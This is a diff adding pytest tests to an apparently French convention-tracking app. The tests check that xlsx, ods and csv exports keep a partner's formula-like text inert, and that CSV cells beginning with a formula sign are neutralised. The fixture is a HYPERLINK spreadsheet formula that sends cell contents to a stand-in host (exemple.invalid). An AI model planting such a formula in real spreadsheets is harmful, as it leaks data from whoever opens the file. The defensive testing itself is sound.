@@ -111,3 +111,42 @@ def test_readers_cannot_confirm_an_import(convention, people):
     assert "ne pouvez pas modifier" in preview.content.decode()
     client.post(reverse("import-sheet", args=[convention.pk]), {"confirm": "1"})
     assert act(convention, "n°1").status == "planned"
+
+
+FORMULA = '=HYPERLINK("http://exemple.invalid/?d="&A2,"Voir")'
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "ods", "csv"])
+def test_a_partners_text_that_looks_like_a_formula_stays_a_text_in_every_export(convention, people, fmt):
+    """A pilot of one party writes an update; the other party's export must not run it."""
+    import zipfile
+
+    action = act(convention, "n°4")
+    montclair = convention.parties.get(label="Commune de Montclair-sur-Marne")
+    tracking.post_update(action, montclair, people["montclair_pilot"], action.convention.validated_at.date(), FORMULA)
+    data = export(client_for(people["paris_coord"]), convention, fmt)
+    if fmt == "xlsx":
+        sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
+        assert "<f>" not in sheet and "HYPERLINK" in sheet  # a text cell, not a formula
+        from openpyxl import load_workbook
+
+        cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value == FORMULA]
+        assert cells and all(c.data_type == "s" for c in cells)
+    elif fmt == "ods":
+        content = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
+        assert "table:formula" not in content and "HYPERLINK" in content
+    else:
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+        last = [r[rows[0].index("Dernier point")] for r in rows[1:] if "HYPERLINK" in r[rows[0].index("Dernier point")]]
+        assert last == ["'" + FORMULA]  # neutralised as OWASP recommends
+    # and the file reads back as it was exported: the text unchanged, nothing to apply
+    table = spreadsheets.read(data, f"tdb.{fmt}")
+    assert FORMULA in [r["Dernier point"] for r in table]
+    result = spreadsheets.plan(convention, people["paris_coord"], table)
+    assert (result.changes, result.refused) == ([], [])
+
+
+@pytest.mark.parametrize("text", ["+33 1 23 45 67 89", "-5 % de déchets", "@mairie", "\tretrait", "\rretour"])
+def test_csv_neutralises_every_formula_sign(text):
+    assert spreadsheets.inert(text) == "'" + text
+    assert spreadsheets.inert("Sans signe") == "Sans signe" and spreadsheets.inert(-5) == -5
